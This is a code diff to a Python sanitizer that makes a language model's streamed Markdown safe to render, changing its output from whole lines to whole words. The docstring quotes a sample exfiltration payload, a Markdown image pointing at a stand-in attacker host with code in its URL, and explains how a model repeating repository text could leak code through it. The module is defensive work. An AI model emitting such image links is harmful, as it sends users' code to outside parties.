@@ -1,4 +1,4 @@
-"""Make a model's Markdown safe to draw, and its mentions of places clickable. Pure, and line by line, so that it can stream.
+"""Make a model's Markdown safe to draw, and its mentions of places clickable. Pure, and word by word, so that it can stream.
 
 A model repeats what it read, and a repository may hold "![](https://evil.example/?q=<the code>)". A client that draws that
 image sends the code away, so: no image, no link, no HTML of the model's making survives. They are shown as the text they
@@ -35,9 +35,10 @@ def nowhere(_path: str, _line: int | None) -> str | None:
 
 @dataclass
 class SafeMarkdown:
-    """Takes a model's text in pieces and gives safe Markdown back, whole lines at a time; `end` gives the rest.
+    """Takes a model's text in pieces and gives safe Markdown back, whole words at a time; `end` gives the rest.
 
-    `cited` are the sources that "[1]" and so on mean, in order.
+    However the text is cut into pieces, what comes back is the same. `cited` are the sources that "[1]" and so on mean, in
+    order.
     """
 
     locate: Locate = nowhere
@@ -45,18 +46,35 @@ class SafeMarkdown:
     _rest: str = ""
     _mark: str = ""
     _indent: str = ""
+    _begun: bool = False
     used: set[int] = field(default_factory=set)
 
     def feed(self, text: str) -> str:
-        """The safe form of the lines that are complete now; empty where none is."""
+        """The safe form of the words that are complete now; empty where none is."""
         self._rest += text.replace("\r\n", "\n").replace("\r", "")
         *lines, self._rest = self._rest.split("\n")
-        return "".join(self._line(line) + "\n" for line in lines)
+        whole = "".join(self._line(line) + "\n" for line in lines)
+        return whole + self._begin()
+
+    def _begin(self) -> str:
+        """The words of a line that is still being written. No rule looks across white space, but for code spans and fences."""
+        if self._mark or (not self._begun and self._rest.lstrip()[:1] in ("", "`", "~")):
+            return ""
+        end, at = self._rest.rfind(" ") + 1, 0
+        while (ticks := _TICKS.search(self._rest, at, end)) is not None:
+            close = next((one for one in _TICKS.finditer(self._rest, ticks.end(), end) if one[0] == ticks[0]), None)
+            if close is None:
+                end = ticks.start()
+                break
+            at = close.end()
+        words, self._rest = self._rest[:end], self._rest[end:]
+        self._begun = self._begun or bool(words)
+        return self._inline(words)
 
     def end(self) -> str:
         """The safe form of what was fed last, with a fence closed that the model left open."""
         last = self._line(self._rest) if self._rest else ""
-        self._rest = ""
+        self._rest, self._begun = "", False
         if self._mark:
             last = f"{last}\n{self._mark}" if last else self._mark
             self._mark = ""
@@ -64,6 +82,9 @@ class SafeMarkdown:
 
     def _line(self, line: str) -> str:
         """One line. Fences are moved to the margin: there every client agrees on where one begins and ends."""
+        if self._begun:
+            self._begun = False
+            return self._inline(line)
         if self._mark:
             inner = line.removeprefix(self._indent)
             stripped = inner.strip()
